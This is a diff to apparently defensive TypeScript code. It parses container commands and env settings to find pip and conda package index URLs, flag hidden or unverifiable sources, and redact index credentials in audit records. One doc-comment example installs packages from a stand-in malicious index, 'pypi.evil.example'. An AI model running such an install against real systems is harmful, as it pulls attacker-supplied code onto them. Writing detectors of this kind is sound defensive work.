@@ -54,12 +54,84 @@ const OTHER_VALUE_OPTIONS = new Set(['--trusted-host', '--proxy', '--cert', '--c
  * pip reads an unambiguous prefix of a long option as the option (optparse): `--extra-index https://…` is
  * `--extra-index-url`. A prefix of three letters or more of a source option is read as it.
  */
-const isSourceOption = (name: string): boolean => SOURCE_LONG.includes(name) || (name.length >= 5 && SOURCE_LONG.some((o) => o.startsWith(name)));
+const sourceOptionOf = (name: string): string | undefined => SOURCE_LONG.find((o) => o === name) ?? (name.length >= 5 ? SOURCE_LONG.find((o) => o.startsWith(name)) : undefined);
 
 /** pip itself: `pip`, `pip3`, `pip3.11`, a path to one (`/opt/venv/bin/pip`). */
 const PIP = /^(?:.*\/)?pip(?:\d+(?:\.\d+)*)?(?:\.exe)?$/;
 /** Installers whose every argument is read: uv (`uv pip install`, `uv add`, `uvx --from`), pipx, poetry (`poetry source add`), conda and its kin. */
 const INSTALLER = /^(?:.*\/)?(?:uvx?|pipx|poetry|conda|mamba|micromamba)(?:\.exe)?$/;
+/** conda and its kin: their `-c` / `--channel` is a channel (a name or a URL), pip's `-c` a constraints file. */
+const CONDA = /^(?:.*\/)?(?:conda|mamba|micromamba)(?:\.exe)?$/;
+
+/**
+ * What one container's request says about its package sources, as it is read: the sources seen (URLs, `conda:<name>`
+ * channels), the ones it hides (`unverifiable`), the variables it sets literally (its env, the script's assignments:
+ * what `$IDX` resolves to), the variables whose value it hides (an env `valueFrom`: where from), and the files its
+ * script downloads (`curl -o r.txt URL`: file → URL).
+ */
+interface Reading {
+  sources: string[];
+  unverifiable: string[];
+  vars: Map<string, string>;
+  hiddenVars: Map<string, string>;
+  fetched: Map<string, string>;
+}
+
+const newReading = (): Reading => ({ sources: [], unverifiable: [], vars: new Map(), hiddenVars: new Map(), fetched: new Map() });
+
+/** `$NAME`, `${NAME}` (a `${NAME:-default}` too) and Kubernetes' `$(NAME)` in command, args and env values. */
+const VAR_REF = /\$(?:\{([A-Za-z_][A-Za-z0-9_]*)(?:[:]?[-=?+][^}]*)?\}|\(([A-Za-z_][A-Za-z0-9_]*)\)|([A-Za-z_][A-Za-z0-9_]*))/g;
+
+const COMMAND_OUTPUT = 'a command substitution';
+
+/** `value` with the variables the request sets literally replaced, and the names it leaves unresolved. */
+function expand(value: string, r: Reading): { text: string; unresolved: string[] } {
+  const unresolved: string[] = [];
+  const text = value.replace(VAR_REF, (m, a?: string, b?: string, c?: string) => {
+    const name = (a ?? b ?? c)!;
+    const v = r.vars.get(name);
+    if (v !== undefined && !v.includes('$')) return v;
+    unresolved.push(name);
+    return m;
+  });
+  // What is left (`$(cat /run/secrets/idx)`, a backquoted command) is a value only the running job knows.
+  if (/[$`]/.test(text) && !unresolved.length) unresolved.push(COMMAND_OUTPUT);
+  return { text, unresolved };
+}
+
+/** Why a variable's value is unknown: where the env takes it from, else that the request does not set it. */
+function whyHidden(names: readonly string[], r: Reading): string {
+  return [...new Set(names)].map((n) => (r.hiddenVars.has(n) ? `${n} from ${r.hiddenVars.get(n)}` : n === COMMAND_OUTPUT ? 'the output of a command' : `${n} not set in the request`)).join(', ');
+}
+
+/** A URL whose host the request names literally (its credentials may come from a variable: `https://$TOKEN@host/…`). */
+const hostIsLiteral = (url: string): boolean => !/[$`]/.test(packageSourceLocation(url).host);
+
+/**
+ * Reads the value of a source option or variable (`what`: `--index-url`, `PIP_INDEX_URL`): its URLs into the sources,
+ * resolved through the variables the request sets; a value only the running job knows into `unverifiable`. A
+ * requirements file the script downloaded (`-r r.txt` after `curl -o r.txt URL`) is judged by its URL, as
+ * `-r URL`; a conda channel name becomes `conda:<name>`.
+ */
+function readValue(what: string, raw: string, r: Reading, kind: 'index' | 'requirement' | 'channel' = 'index'): void {
+  const { text, unresolved } = /[$`]/.test(raw) ? expand(raw, r) : { text: raw, unresolved: [] };
+  let hidden = false;
+  for (const token of text.split(kind === 'channel' ? /[\s]+/ : /[\s,]+/)) {
+    if (!token) continue;
+    const url = token.replace(/^[\w.-]+=(?=[a-z][a-z0-9+.-]*:\/\/)/i, '');
+    if (URL.test(url)) {
+      if (hostIsLiteral(url)) r.sources.push(url);
+      else hidden = true;
+    } else if (/[$`]/.test(token)) hidden = true;
+    else if (kind === 'requirement') {
+      const from = r.fetched.get(token.replace(/^\.\//, ''));
+      if (from !== undefined) readValue(`${what} ${token} downloaded from`, from, r);
+    } else if (kind === 'channel') {
+      for (const name of token.split(',')) if (name && name !== 'local' && !name.startsWith('/') && !name.startsWith('.')) r.sources.push(`conda:${name}`);
+    }
+  }
+  if (hidden) r.unverifiable.push(`${what} ${raw}: ${whyHidden(unresolved.length ? unresolved : [COMMAND_OUTPUT], r)}`);
+}
 
 /** Where the installer's arguments start in a command's words (after `pip`, `python -m pip`, `python -mpip`, `uv`…), -1 when none runs. */
 function installerArgsStart(words: readonly string[]): number {
@@ -72,16 +144,17 @@ function installerArgsStart(words: readonly string[]): number {
 }
 
 /** `pip config set global.index-url URL` (also `extra-index-url`, `find-links`): the config every later pip reads. */
-function pipConfigSet(args: readonly string[]): string[] {
+function pipConfigSet(args: readonly string[], r: Reading): void {
   const at = args.indexOf('set');
-  if (args.indexOf('config') < 0 || at < 0) return [];
+  if (args.indexOf('config') < 0 || at < 0) return;
   const key = args[at + 1] ?? '';
-  return /(?:^|\.)(?:index-url|extra-index-url|find-links)$/.test(key) ? urlsOfValue(args[at + 2] ?? '') : [];
+  if (/(?:^|\.)(?:index-url|extra-index-url|find-links)$/.test(key)) readValue(`pip config set ${key}`, args[at + 2] ?? '', r);
 }
 
-/** The sources an installer's arguments name: source options (`--opt URL`, `--opt=URL`, `-iURL`), URL requirements (`git+https://…`, `pkg@https://…`). */
-function sourcesOfArgs(args: readonly string[], runsProgram: boolean): string[] {
-  const out: string[] = [];
+/** The sources an installer's arguments name: source options (`--opt URL`, `--opt=URL`, `-iURL`), URL requirements (`git+https://…`, `pkg@https://…`), conda's `channel::pkg`. */
+function sourcesOfArgs(args: readonly string[], runsProgram: boolean, conda: boolean, r: Reading): void {
+  const kindOf = (option: string): 'index' | 'requirement' | 'channel' =>
+    option === '--channel' || (conda && option === '-c') ? 'channel' : option === '--requirement' || option === '--constraint' || option === '-r' || option === '-c' ? 'requirement' : 'index';
   // `uv run`, `poetry run`, `pipx run`, `conda run`, `uvx`: the URLs after their program are its own arguments
   // (`uv run serve.py --tracking https://…`), not requirements; source options are read wherever they are.
   let running = runsProgram;
@@ -100,46 +173,109 @@ function sourcesOfArgs(args: readonly string[], runsProgram: boolean): string[] 
     if (t.startsWith('--')) {
       const eq = t.indexOf('=');
       const name = eq < 0 ? t : t.slice(0, eq);
-      if (isSourceOption(name)) out.push(...urlsOfValue(eq < 0 ? (args[++i] ?? '') : t.slice(eq + 1)));
+      const option = sourceOptionOf(name);
+      if (option) readValue(name, eq < 0 ? (args[++i] ?? '') : t.slice(eq + 1), r, kindOf(option));
       else if (eq < 0 && OTHER_VALUE_OPTIONS.has(name)) i++;
     } else if (t.startsWith('-') && t.length > 1) {
       const short = t.slice(0, 2);
-      if (SOURCE_SHORT.has(short)) out.push(...urlsOfValue(t.length > 2 ? t.slice(2).replace(/^=/, '') : (args[++i] ?? '')));
+      if (SOURCE_SHORT.has(short)) readValue(short, t.length > 2 ? t.slice(2).replace(/^=/, '') : (args[++i] ?? ''), r, kindOf(short));
       else if (OTHER_VALUE_OPTIONS.has(t)) i++;
-    } else if (URL.test(t)) out.push(t);
+    } else if (URL.test(t)) r.sources.push(t);
+    else if (conda && /^[\w.-]+(?:\/[\w.-]+)*::/.test(t)) r.sources.push(`conda:${t.slice(0, t.indexOf('::'))}`);
     else {
       // PEP 508 `name @ url` may be written without blanks (`pkg[extra]@https://…`).
       const at = t.indexOf('@');
-      if (at > 0 && URL.test(t.slice(at + 1).trimStart())) out.push(t.slice(at + 1).trimStart());
+      if (at > 0 && URL.test(t.slice(at + 1).trimStart())) r.sources.push(t.slice(at + 1).trimStart());
     }
   }
-  return out;
 }
 
-/** `PIP_INDEX_URL=…` as a command's prefix assignment or an `export` / `env` argument: pip reads it as from the env. */
-function sourcesOfAssignments(words: readonly string[]): string[] {
-  const out: string[] = [];
-  for (const w of words) {
-    const m = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(w);
-    if (m && INDEX_ENV.has(m[1]!.toUpperCase())) out.push(...urlsOfValue(m[2]!));
+/** pip's and uv's variables naming a config file: what it says (an index) is in a file the request does not show. */
+const CONFIG_FILE_ENV = new Set(['PIP_CONFIG_FILE', 'UV_CONFIG_FILE']);
+/** conda's channel list as a variable (comma-separated, like any conda setting as `CONDA_<KEY>`). */
+const CONDA_CHANNELS_ENV = 'CONDA_CHANNELS';
+
+/** Reads one variable a container sets to `value` (env entry, assignment, `export`): an index, a config file, a conda channel list. */
+function readVariable(name: string, value: string, r: Reading): void {
+  const upper = name.toUpperCase();
+  if (INDEX_ENV.has(upper)) readValue(name, value, r);
+  else if (upper === CONDA_CHANNELS_ENV) readValue(name, value, r, 'channel');
+  // pip reads no config file at all when PIP_CONFIG_FILE is os.devnull (pip's configuration docs).
+  else if (CONFIG_FILE_ENV.has(upper) && value && value !== '/dev/null') r.unverifiable.push(`${name}=${value}: a config file the request does not show`);
+}
+
+const ASSIGNMENT = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s;
+
+/**
+ * `PIP_INDEX_URL=…` as a command's prefix assignment or an `export` / `env` argument (anywhere in the command, as
+ * before: `env PIP_INDEX_URL=… pip`): pip reads it as from the env. The assignments of a bare `NAME=…` command, of
+ * `export` and a command's prefix also set the variable a later `$NAME` resolves to.
+ */
+function sourcesOfAssignments(words: readonly string[], r: Reading): void {
+  const first = words.findIndex((w) => !ASSIGNMENT.test(w));
+  const setting = first < 0 ? words.length : words[first] === 'export' || words[first] === 'env' || words[first] === 'declare' ? words.length : first;
+  words.forEach((w, i) => {
+    const m = ASSIGNMENT.exec(w);
+    if (!m) return;
+    readVariable(m[1]!, m[2]!, r);
+    if (i >= setting) return;
+    r.vars.set(m[1]!, /[$`]/.test(m[2]!) ? expand(m[2]!, r).text : m[2]!);
+    r.hiddenVars.delete(m[1]!);
+  });
+}
+
+/** `curl -o r.txt URL`, `curl -O URL`, `wget -O r.txt URL`, `curl URL > r.txt`: the file a download writes, and its URL. */
+function downloadOf(words: readonly string[]): { file: string; url: string } | undefined {
+  const tool = words[0]?.replace(/^.*\//, '');
+  if (tool !== 'curl' && tool !== 'wget') return undefined;
+  let file: string | undefined;
+  let url: string | undefined;
+  let remoteName = tool === 'wget';
+  for (let i = 1; i < words.length; i++) {
+    const w = words[i]!;
+    if (w === '>' || w === '>>') file = words[++i];
+    else if (/^>>?[^>]/.test(w)) file = w.replace(/^>>?/, '');
+    else if ((tool === 'curl' && (w === '-o' || w === '--output')) || (tool === 'wget' && (w === '-O' || w === '--output-document'))) file = words[++i];
+    else if (tool === 'curl' && w.startsWith('--output=')) file = w.slice(9);
+    else if (tool === 'wget' && w.startsWith('--output-document=')) file = w.slice(18);
+    else if ((tool === 'curl' && /^-o./.test(w)) || (tool === 'wget' && /^-O./.test(w))) file = w.slice(2);
+    else if (tool === 'curl' && (w === '-O' || w === '--remote-name')) remoteName = true;
+    else if (!url && (URL.test(w) || /^\$/.test(w))) url = w;
   }
-  return out;
+  if (!url) return undefined;
+  file ??= remoteName ? url.replace(/[?#].*$/, '').replace(/^.*\//, '') : undefined;
+  return file && file !== '-' ? { file: file.replace(/^\.\//, ''), url } : undefined;
+}
+
+/** Reads one command's words. */
+function sourcesOfWords(words: readonly string[], r: Reading): void {
+  sourcesOfAssignments(words, r);
+  const download = downloadOf(words);
+  if (download) r.fetched.set(download.file, download.url);
+  const start = installerArgsStart(words);
+  if (start < 0) return;
+  const args = words.slice(start);
+  const installer = words[start - 1]!;
+  if ((PIP.test(installer) || installer === '-mpip') && args.includes('config')) return pipConfigSet(args, r);
+  sourcesOfArgs(args, /(?:^|\/)uvx(?:\.exe)?$/.test(installer), CONDA.test(installer), r);
 }
 
 /** A pip config file (`pip.conf`, `pip.ini`) written by the script (`printf '[global]\\nindex-url = …' > /etc/pip.conf`): its index keys. */
 const CONFIG_INDEX_KEY = /(?:^|[\s'"]|\\n)(?:extra[-_])?(?:index[-_]url|find[-_]links)\s*[=:]\s*['"]?([a-z][a-z0-9+.-]*:\/\/[^\s'"\\]+)/gi;
 
-/** The sources of one command's words. */
-function sourcesOfWords(words: readonly string[]): string[] {
-  const out = sourcesOfAssignments(words);
-  const start = installerArgsStart(words);
-  if (start < 0) return out;
-  const args = words.slice(start);
-  if (PIP.test(words[start - 1]!) || words[start - 1] === 'pip' || words[start - 1] === '-mpip') {
-    const config = pipConfigSet(args);
-    if (args.includes('config')) return [...out, ...config];
+/** Every string a command can name a source in names one of these (case aside); `$` and `curl`/`wget` only matter beside one. */
+const MAY_INSTALL = /pip|uv|poetry|conda|mamba|index|find[-_]links/i;
+
+/** Reads a container's command and args into `r` (see packageSourcesOfCommand). */
+function readCommand(parts: readonly unknown[], r: Reading): void {
+  const strings = parts.filter((p): p is string => typeof p === 'string');
+  if (strings.some((s) => MAY_INSTALL.test(s))) sourcesOfWords(strings, r);
+  for (const part of strings) {
+    // Most commands install nothing: the shell reading is skipped for a string naming no installer nor index.
+    if (!MAY_INSTALL.test(part)) continue;
+    for (const words of shellCommands(part)) sourcesOfWords(words, r);
+    for (const m of part.matchAll(CONFIG_INDEX_KEY)) r.sources.push(m[1]!);
   }
-  return [...out, ...sourcesOfArgs(args, /(?:^|\/)uvx(?:\.exe)?$/.test(words[start - 1]!))];
 }
 
 /**
@@ -149,24 +285,69 @@ function sourcesOfWords(words: readonly string[]): string[] {
  * `pip config set global.index-url` and a pip config file it writes. Read from the whole list as one command
  * (exec form: `["pip", "install", "-i", URL]`) and from each string as a shell script (`sh -c "…"`), so a `-f` of
  * another command (`rm -f`) is not read. This is how a compiled KFP component installs its `packages_to_install` from
- * its `pip_index_urls`.
+ * its `pip_index_urls`. A conda channel given by name is `conda:<name>`.
  *
  * @example
  * packageSourcesOfCommand(['sh', '-c', "python3 -m pip install --index-url https://pypi.evil.example/simple 'x' && \"$0\""]) // ['https://pypi.evil.example/simple']
  */
-/** Every string packageSourcesOfCommand can read a source from names one of these (case aside). */
-const MAY_INSTALL = /pip|uv|poetry|conda|mamba|index|find[-_]links/i;
-
 export function packageSourcesOfCommand(parts: readonly unknown[]): string[] {
-  const strings = parts.filter((p): p is string => typeof p === 'string');
-  const out = sourcesOfWords(strings);
-  for (const part of strings) {
-    // Most commands install nothing: the shell reading is skipped for a string naming no installer nor index.
-    if (!MAY_INSTALL.test(part)) continue;
-    for (const words of shellCommands(part)) out.push(...sourcesOfWords(words));
-    for (const m of part.matchAll(CONFIG_INDEX_KEY)) out.push(m[1]!);
+  const r = newReading();
+  readCommand(parts, r);
+  return [...new Set(r.sources.map(shown))];
+}
+
+/** What a container's request says about where its packages come from: the sources seen, and the ones it hides. */
+export interface PackageSourceFacts {
+  /** As `ml.job.package_sources`: index and requirement URLs (credentials hidden), `conda:<name>` channels. */
+  sources: string[];
+  /**
+   * As `ml.job.package_sources_unverifiable`: the indexes the request names but does not show, what and why
+   * (`--index-url ${PIP_URL}: PIP_URL not set in the request`, `PIP_INDEX_URL: from secretKeyRef pip/url`,
+   * `PIP_CONFIG_FILE=/etc/pip/pip.conf: a config file the request does not show`).
+   */
+  unverifiable: string[];
+}
+
+/** A Kubernetes env entry's `valueFrom`, said briefly: `secretKeyRef pip-index/url`, `configMapKeyRef cm/key`, `fieldRef`. */
+function valueFromOf(from: unknown): string {
+  if (!from || typeof from !== 'object') return 'valueFrom';
+  const [kind, ref] = Object.entries(from as Record<string, unknown>)[0] ?? ['valueFrom', undefined];
+  const o = ref && typeof ref === 'object' ? (ref as Record<string, unknown>) : {};
+  const name = [o.name, o.key].filter((x): x is string => typeof x === 'string').join('/');
+  return name ? `${kind} ${name}` : kind;
+}
+
+/**
+ * The package sources of one container (a Kubernetes / Vertex container, a SageMaker job's `Environment`): its env
+ * (`{NAME: value}` or `[{name, value | valueFrom}]`) and its command and args read together, so `pip install -i $IDX`
+ * resolves `IDX` from the env entry or the script's assignment that sets it literally, and is judged by its value.
+ * Unknowable, listed in `unverifiable`: an index from a variable the request does not set literally (`-i $IDX`,
+ * `--index-url "${PIP_URL}"`), an index variable taken `valueFrom` a Secret or ConfigMap, `PIP_CONFIG_FILE` /
+ * `UV_CONFIG_FILE` naming a file (not `/dev/null`), a requirements file the script downloads from a hidden URL.
+ * A plain `pip install -r requirements.txt` names no index: PyPI, nothing listed.
+ *
+ * @example
+ * packageSourceFactsOf({ env: [{ name: 'PIP_INDEX_URL', valueFrom: { secretKeyRef: { name: 'pip', key: 'url' } } }], command: ['pip', 'install', 'x'] })
+ * // { sources: [], unverifiable: ['PIP_INDEX_URL: from secretKeyRef pip/url'] }
+ */
+export function packageSourceFactsOf(container: { env?: unknown; command?: readonly unknown[] }): PackageSourceFacts {
+  const r = newReading();
+  const env = container.env;
+  const entries: Array<{ name: string; value?: unknown; valueFrom?: unknown }> = Array.isArray(env)
+    ? env.filter((e): e is { name: string } => !!e && typeof e === 'object' && typeof (e as { name?: unknown }).name === 'string')
+    : env && typeof env === 'object' ? Object.entries(env).map(([name, value]) => ({ name, value })) : [];
+  // Every variable first: Kubernetes expands `$(NAME)` in command and args from the whole env.
+  for (const e of entries) {
+    if (typeof e.value === 'string') r.vars.set(e.name, e.value);
+    else if (e.valueFrom !== undefined) r.hiddenVars.set(e.name, valueFromOf(e.valueFrom));
   }
-  return [...new Set(out.map(shown))];
+  for (const e of entries) {
+    const upper = e.name.toUpperCase();
+    if (typeof e.value === 'string') readVariable(e.name, e.value, r);
+    else if (e.valueFrom !== undefined && (INDEX_ENV.has(upper) || CONFIG_FILE_ENV.has(upper) || upper === CONDA_CHANNELS_ENV)) r.unverifiable.push(`${e.name}: from ${valueFromOf(e.valueFrom)}`);
+  }
+  if (container.command?.length) readCommand(container.command, r);
+  return { sources: [...new Set(r.sources.map(shown))], unverifiable: [...new Set(r.unverifiable.map(shown))] };
 }
 
 /**
@@ -183,13 +364,16 @@ export function packageSourceLocation(url: string): { host: string; path: string
   return { host: authority.slice(authority.lastIndexOf('@') + 1).replace(/:\d*$/, '').toLowerCase(), path: slash < 0 ? '' : rest.slice(slash + 1) };
 }
 
+/** Where a container's command is kept: Kubernetes / Vertex `command` and `args`, SageMaker's `containerEntrypoint` and `containerArguments`. */
+const COMMAND_KEYS = new Set(['command', 'args', 'containerEntrypoint', 'containerArguments']);
+
 /** How deep redactPackageSourceSecrets looks (a CloudTrail record's container env sits 4-5 levels down). */
 const MAX_REDACT_DEPTH = 16;
 
 /**
  * `record` with the credentials of package sources hidden as `ml.job.package_sources` hides them: the values of the
  * index variables (`PIP_INDEX_URL`…, a `{NAME: value}` map or a `[{name, value}]` list) and the strings of `command`
- * / `args` lists, their URL user-info and secret query values replaced by `[redacted]`. For the raw record of a job
+ * / `args` (SageMaker `containerEntrypoint` / `containerArguments`) lists, their URL user-info and secret query values replaced by `[redacted]`. For the raw record of a job
  * whose package sources held one (a CloudTrail or Cloud Audit request logs the env as sent): the same record (===)
  * when nothing changed, else a copy.
  *
@@ -213,7 +397,7 @@ export function redactPackageSourceSecrets<T>(record: T): T {
     for (const [k, val] of Object.entries(o)) {
       let r: unknown;
       if (typeof val === 'string') r = INDEX_ENV.has(k.toUpperCase()) || (indexEntry && k === 'value') ? shown(val) : val;
-      else if (Array.isArray(val) && (k === 'command' || k === 'args')) r = val.map((s) => (typeof s === 'string' ? shown(s) : walk(s, depth + 1)));
+      else if (Array.isArray(val) && COMMAND_KEYS.has(k)) r = val.map((s) => (typeof s === 'string' ? shown(s) : walk(s, depth + 1)));
       else r = walk(val, depth + 1);
       if (r !== val && !(Array.isArray(r) && Array.isArray(val) && r.every((x, i) => x === val[i]))) (out ??= { ...o })[k] = r;
     }
